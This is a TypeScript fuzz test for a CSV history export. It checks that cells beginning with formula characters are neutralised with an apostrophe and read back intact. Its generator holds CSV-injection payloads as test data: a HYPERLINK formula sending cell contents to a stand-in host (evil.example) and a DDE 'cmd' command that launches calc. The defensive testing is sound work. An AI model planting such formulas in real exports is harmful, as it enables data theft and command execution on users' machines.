import { describe, expect, it } from 'vitest';
import { historyCsv } from '../../../src/history/export-csv';
import { sampleEntry } from '../history/sample-entry';
import { hostileName, seeded, type Random } from './random';

const SEED = 0x4a4e_2008;
const ROWS = 250;
/** Four hostile columns per row. */
const CELLS = ROWS * 4;

/** A minimal RFC 4180 reader: quoted fields may hold commas, quotes ("") and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
    } else if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (text[i] === '"' || text[i] === '\n' || text[i] === '\r') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
      field += text[i++];
    }
  }
  if (field !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

/** A cell a spreadsheet would run, or one hiding a line break or quote. */
function hostileCell(r: Random): string {
  const start = r.pick(['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', '', '', "'"]);
  const body = r.pick(['HYPERLINK("http://evil.example/?"&A1,"klik")', 'cmd|\' /C calc\'!A0', '1+1', 'SUM(1,2)\r\n=2', '"quoted"', hostileName(r)]);
  return `${start}${body}`;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV export under fuzzing (seed 0x4a4e2008)', () => {
  it('neutralises every formula start and reads back cell for cell', () => {
    const r = seeded(SEED);
    const entries = Array.from({ length: ROWS }, (_, n) => {
      const [entryLabel, listId, clause, reason] = [hostileCell(r), hostileCell(r), hostileCell(r), hostileCell(r)];
      return sampleEntry(n, { entryLabel, listId, clause, reason });
    });
    const csv = historyCsv(entries);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(csv.slice(1));
    expect(header).toContain('entryLabel');
    expect(rows).toHaveLength(ROWS);
    const column = (name: string) => header!.indexOf(name);
    let checked = 0;
    rows.forEach((row, n) => {
      expect(row).toHaveLength(header!.length);
      const entry = entries[n]!;
      for (const name of ['entryLabel', 'listId', 'clause', 'reason'] as const) {
        const written = entry[name] ?? '';
        const read = row[column(name)]!;
        checked++;
        // No cell a spreadsheet reads may start a formula...
        expect(FORMULA_START.test(read), JSON.stringify(read)).toBe(false);
        // ...and the text is kept, behind an apostrophe when it had to be neutralised.
        expect(read).toBe(FORMULA_START.test(written) ? `'${written}` : written);
      }
    });
    console.log(`CSV fuzz: ${checked} generated hostile cells in ${ROWS} rows; seed ${SEED}`);
    expect(checked).toBe(CELLS);
  });
});
